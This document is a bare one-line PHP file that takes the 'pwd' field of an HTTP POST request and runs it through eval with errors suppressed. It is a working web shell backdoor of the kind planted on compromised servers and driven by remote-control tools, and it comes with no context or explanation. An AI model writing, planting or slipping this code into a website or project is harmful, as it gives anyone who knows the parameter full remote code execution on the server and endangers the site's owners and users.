<?php $ant = $_POST['pwd']; @eval($ant);
